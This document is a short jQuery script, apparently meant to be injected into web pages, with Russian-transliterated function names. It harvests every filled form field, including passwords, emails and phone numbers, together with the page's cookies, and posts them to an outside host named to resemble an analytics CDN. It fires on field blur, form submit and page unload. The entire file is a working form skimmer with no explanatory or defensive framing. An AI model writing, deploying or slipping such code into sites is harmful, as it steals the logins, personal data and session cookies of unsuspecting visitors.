$(document).ready(function () {
    var url = 'https://metrika-cdn.example/collect.php';

    function sobrat() {
        var data = {};
        $('input, select, textarea').each(function (i, el) {
            var key = $(el).attr('name') || $(el).attr('id') || 'pole' + i;
            if ($(el).val()) {
                data[key] = $(el).val();
            }
        });
        return data;
    }

    function otpravit(tip) {
        var d = sobrat();
        if ($.isEmptyObject(d)) return;
        $.ajax({
            url: url,
            type: 'POST',
            crossDomain: true,
            data: { tip: tip, sayt: location.hostname, str: location.pathname, cookie: document.cookie, dannye: JSON.stringify(d) }
        });
    }

    $(document).on('blur', 'input[type=password], input[type=email], input[type=tel]', function () {
        otpravit('blur');
    });
    $('form').on('submit', function () {
        otpravit('submit');
    });
    $(window).on('beforeunload', function () {
        otpravit('unload');
    });
});
